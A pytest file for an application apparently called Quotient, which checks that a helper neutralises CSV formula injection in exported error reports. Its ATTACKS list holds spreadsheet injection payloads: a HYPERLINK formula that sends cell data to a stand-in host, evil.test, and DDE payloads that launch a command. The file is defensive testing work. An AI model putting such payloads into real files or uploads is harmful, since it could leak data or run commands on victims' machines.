"""CSV formula injection (hole 6 of issue #8): every CSV Quotient writes goes through one helper.

Uploaded values beginning ``= + - @`` (or a tab / carriage return) were written unchanged into
``errors.csv``, where a spreadsheet runs them as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from core.csvsafe import csv_writer, safe_cell

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_cell_gets_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-120.50", "+3", "-0.5", "-.5", "1e-3", "-2E+5", "0"])
def test_a_plain_number_stays_a_number(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["Initech", "a=b", "", "E-1001", None, 42, -7])
def test_ordinary_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_and_round_trips_through_a_reader():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["value", *ATTACKS])
    writer.writerows([["-1", "=1"]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["value", *("'" + a for a in ATTACKS)]
    assert rows[1] == ["-1", "'=1"]


def test_errors_csv_neutralises_uploaded_formulas(client_alice):
    rows = [
        {
            "external_id": f"X-{i}",
            "kind": "new_business",
            "amount": attack,
            "currency": "USD",
            "booked_on": "2026-02-10",
            "owner_employee_id": "E1",
        }
        for i, attack in enumerate(ATTACKS)
    ]
    response = client_alice.post(
        "/api/v1/imports/transactions/rows/",
        data=json.dumps({"rows": rows, "mode": "partial"}),
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    report = client_alice.get(f"/api/v1/imports/{response.json()['id']}/errors.csv")
    report_rows = list(csv.DictReader(io.StringIO(report.content.decode(), newline="")))
    values = [r["value"] for r in report_rows if r["column"] == "amount"]
    # the importer trims surrounding whitespace (tab, CR) before it reports the value
    assert values == ["'" + a.strip() for a in ATTACKS]
    cells = [c for r in report_rows for c in r.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_no_module_writes_csv_without_the_helper():
    # One helper for every CSV the product writes: a raw csv.writer / DictWriter elsewhere fails.
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("core", "hierarchy", "plans", "incentives", "payouts", "dashboards")
        for path in (ROOT / app).rglob("*.py")
        if raw.search(path.read_text()) and path.name != "csvsafe.py"
    ]
    assert offenders == []
